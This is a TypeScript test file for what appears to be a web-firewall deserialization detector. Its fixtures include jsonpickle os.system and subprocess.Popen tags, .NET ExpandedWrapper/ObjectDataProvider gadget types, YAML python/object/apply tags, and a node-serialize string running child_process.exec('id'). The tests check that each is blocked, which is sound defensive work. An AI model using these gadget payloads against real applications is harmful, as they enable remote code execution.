  for (const v of [pair, Buffer.from([0xff, 1, 0x32, 0x10, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]).toString('base64'), '/wEy/path/to/file', 'a/wEyXXXXXXXXXXXXXXXX']) {
    t.equal(detectDeserialization(v), undefined, v);
  }
});

t.test('jsonpickle tags in a parsed document (keys and values apart) naming a dangerous module are high', async (t) => {
  for (const [k, v] of [['py/function', 'os.system'], ['py/type', 'subprocess.Popen'], ['py/object', 'subprocess.Popen'], ['py/repr', "os/os.system('id')"], ['py/function', 'builtins.eval'], ['py/function', 'posix.system']]) {
    t.equal(detectDeserializationTypeHint(k!, v!)?.rule, 'deser.jsonpickle', `${k} ${v}`);
  }
  for (const [k, v] of [['py/object', 'myapp.models.User'], ['py/type', 'datetime.datetime'], ['py/function', 'osmosis.run'], ['py/type', 'os'], ['py/tuple', 'os.system'], ['@type', 'os.system']]) {
    t.equal(detectDeserializationTypeHint(k!, v!), undefined, `${k} ${v}`);
  }
  // Through the engine: a JSON body, and JSON inside a string (which the engine parses, so the text
  // scan never sees the quoted key).
  const e = createEngine();
  const body = { 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['id'] }] };
  for (const value of [body, { q: JSON.stringify(body) }]) {
    const verdict = e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value }] });
    t.equal(verdict.action, 'block', JSON.stringify(value).slice(0, 40));
    t.ok(verdict.findings.some((f) => f.rule === 'deser.jsonpickle'));
  }
  const benign = { 'py/object': 'shop.models.Order', id: 1, when: { 'py/object': 'datetime.date', __reduce__: [{ 'py/type': 'datetime.date' }, ['B+QBAQ==']] } };
  t.equal(e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value: benign }] }).findings.length, 0, 'app classes');
});

t.test('.NET gadget types written as generic instantiations (ExpandedWrapper`2[[…]]) are high', async (t) => {
  const ew = 'System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework],[System.Windows.Data.ObjectDataProvider, PresentationFramework]], System.Data.Services';
  t.equal(detectDeserialization(ew)?.confidence, 'high', 'bare value (an XML attribute the engine reads apart)');
  t.equal(detectDeserialization('System.Data.Services.Internal.ExpandedWrapper`1[[System.Diagnostics.Process, System]]')?.confidence, 'high');
  const e = createEngine();
  const xml = `<profile><item key="k" type="${ew}"><ExpandedWrapperOfXamlReaderObjectDataProvider/></item></profile>`;
  t.equal(e.inspect({ method: 'POST', path: '/x', sources: [{ kind: 'body', path: 'body', value: { profile: xml } }] }).action, 'block', 'DNN-style profile XML');
  // Generic types that are not gadgets, a backtick without type arguments.
  for (const v of ['System.Collections.Generic.List`1[[System.String, mscorlib]], mscorlib', 'System.Data.Services.Internal.ExpandedWrapper`x', 'System.Tuple`2[[System.Int32, mscorlib],[System.String, mscorlib]]']) {
    t.not(detectDeserialization(v)?.confidence, 'high', v);
  }
});

t.test('PHP serialize() colons found among colon runs and other colons', async (t) => {
  // The colon scan tests phpValue's first conditions inline (O/C/a/s before, a digit or `+` after):
  // serialized values must still be found after long runs of colons that fail them.
  const objs = ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'a:2:{i:0;s:1:"x";i:1;s:1:"y";}', 'O:+8:"stdClass":0:{}', 's:3:"abc";', 'C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}'];
  for (const pad of ['', ':'.repeat(2000), 'a: b&'.repeat(400), '::::&'.repeat(400), 'O:x a:: s: C:'.repeat(200)]) {
    for (const o of objs) {
      const base = detectDeserialization(o);
      t.ok(base !== undefined, `alone: ${o}`);
      t.same(detectDeserialization(`${pad} ${o}`)?.rule, base?.rule, `${pad.slice(0, 6)} ${o}`);
    }
  }
  for (const v of [':'.repeat(5000), 'a: b&'.repeat(1000), 'time 12:30, ratio 1:2, O: 8, a:b:c']) t.equal(detectDeserialization(v), undefined, v.slice(0, 20));
});

// Pinned verdicts of a seeded table (session 16, dense punctuation): the digest of every verdict
// (rule and confidence) over generated strings that mix this detector's trigger characters, the
// sweep's dense units and attack fragments, as the build before the speed work gave them. A fast
// path that changes any verdict changes the digest (the same table caught a planted change of each
// fast path: anyPhpColon, anyJavaType and anyYamlTag, each dropping one of its cases).

const DESER_PIECES = [...':;{}"0123+ aOCsx/&@!<r'].concat(['@type', '"@type":"com.sun.rowset.JdbcRowSetImpl"', '!!python/object/apply:os.system', '!ruby/object:Gem', '!<tag:yaml.org,2002:python/object/apply:os.system', '{"@class":"com.sun.rowset.JdbcRowSetImpl"}', 'O:8:"stdClass":0:{}', 'a:2:{i:0;s:1:"x";}', 's:4:"test";', 'O:', 'C:', 'a:', 's:', '::1 ', "'::'", 'x:/&0', 'a: b&', 'O:+8:', 'the fit ']);

t.test('dense punctuation: verdicts pinned on a seeded table (colons, @ and ! runs)', async (t) => {
  const table = verdictTable(16, DESER_PIECES, 4000);
  t.equal(table.filter((s) => detectDeserialization(s) !== undefined).length, 2649, 'findings in the table');
  t.equal(verdictDigest(table.map((s) => verdictKey(detectDeserialization(s)) + verdictKey(detectDeserialization(s, charMask(s))))), 'e2cddb79');
  // The same strings after 120 characters of prose: the long-value gate (mayMarkLong) for each.
  const pad = 'The fit is relaxed and the cotton soft. '.repeat(3);
  t.equal(verdictDigest(table.map((s) => verdictKey(detectDeserialization(pad + s)))), '29f88541');
});

// Round 2: mayMarkLong searches for ND_FUNC, `__js_function` and `__type` whole instead of asking
// checkUnderscore at every `_$` and `__`. Long values only (after the pad, or `__` runs): the digest
// is the base build's (cd89112); it caught a planted gate without its `__type` search.
const UNDERSCORE_PIECES = [...'_$_:"\' {}\\x'].concat(['__', '_$', '$$', '_$$ND_FUNC$$_', '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()', '__js_function', '"__js_function":"function(){return 1}()"', '__type', '"__type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"', '__typeX', '__js_functionX', '"$type":"System.IO.FileInfo, mscorlib"', 'function', '()']);

t.test('dense punctuation: verdicts pinned on a seeded table (_$ and __ runs, long values)', async (t) => {
  const table = verdictTable(162, UNDERSCORE_PIECES, 3000);
  const pad = 'The fit is relaxed and the cotton soft. '.repeat(3);
  const long = table.map((s, i) => (i % 2 === 0 ? pad + s : '__'.repeat(80) + s));
  t.equal(long.filter((s) => detectDeserialization(s) !== undefined).length, 2187, 'findings in the table');
  t.equal(verdictDigest(long.map((s) => verdictKey(detectDeserialization(s)) + verdictKey(detectDeserialization(s, charMask(s))))), '85976405');
});

// Session 17 (dense punctuation, second round): pieces around this round's fast paths. The digest
// is the base build's (7c28b55), verdicts with and without the caller's charMask; it caught the
// change planted in this round's fast path (a scratch differential of the base dist against this
// build, ~300k strings, found no difference).
const S17_PIECES: string[] = ["/", "//", "/////", "AAEAAAD", "AAEAAAD/////", "x:/&0", "a: b&", "\u00e9", "\u00ac\u00ed\u0000\u0005", "rO0AB", "O:8:\"stdClass\":0:{}", "a:2:{", "s:3:\"abc\";", ":", "O", "1", " ", "py/", "wEy", "/wEy", "Tzo", "x", "0005", "aced0005"];

t.test('dense punctuation: verdicts pinned on a seeded table (session 17 fast paths)', async (t) => {
  const { findings, digest } = pinnedVerdicts(verdictTable(1704, S17_PIECES, 3000), (s) => detectDeserialization(s), (s) => detectDeserialization(s, charMask(s)));
  t.equal(findings, 2067, 'findings in the table');
  t.equal(digest, '152b6b8d');
  // Without a mask, an ASCII value takes the ASCII routes (the `AAEAAAD/////` search whole).
  t.equal(detectDeserialization('//'.repeat(32768)), undefined);
});

t.test('session 18 (hA3): colon and 0005 scans by their last character: verdicts pinned from before them', async (t) => {
  // anyPhpColon steps over a colon-dense stretch by what its O/C/a/s, colon, digit-or-+ window's last
  // character allows, and the `0005` tail of a hex Java header is looked for the same way: both
  // only on long values (the long route). Digest computed with the build before them (2ca00a4) over
  // the same generated table, with and without the mask. Stepping past `O C a s` by 3, or past a
  // `0` by 2, changes it.
  const PIECES = ["x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0x:/&0", "'::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::''::'", "a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&a: b&", "a: b&", "x:/&0", "'::'", ":", "0", "5", "00", "000", "0005", "aced", "ACED", "AcEd", "aced0005", "ACED0005ab", "O:", "a:", "s:", "C:", ":1", ":+", "O:8:\"stdClass\":0:{}", "a:1:{i:0;i:1;}", "s:5:\"hello\";", "C:3:\"Foo\":0:{}", "O:+8:\"x\":0:{}", "rO0AB", "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==", "gASV", "gAJjb3MKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==", " ", "&", "{", "}", ";", "\"", "-('\\0", "::1 "];
  t.same(pinnedVerdicts(verdictTable(1802, PIECES, 3000), (s) => detectDeserialization(s), (s) => detectDeserialization(s, charMask(s))), { findings: 2157, digest: '50b0bf41' });
  // The dense shapes keep their verdicts; a header or a serialize() value inside them is found.
  for (const u of ['x:/&0', "'::'", 'a: b&', '::1 ', '0']) t.equal(detectDeserialization(u.repeat(4000)), undefined, u);
  t.equal(detectDeserialization('x:/&0'.repeat(4000) + ' aced0005abcd')?.confidence, 'high');
  t.equal(detectDeserialization('a: b&'.repeat(4000) + 'O:8:"stdClass":0:{}')?.confidence, 'high');
  t.equal(detectDeserialization("'::'".repeat(4000) + 'O:8:"stdClass":0:{}' + "'::'".repeat(4000))?.confidence, 'high');
});
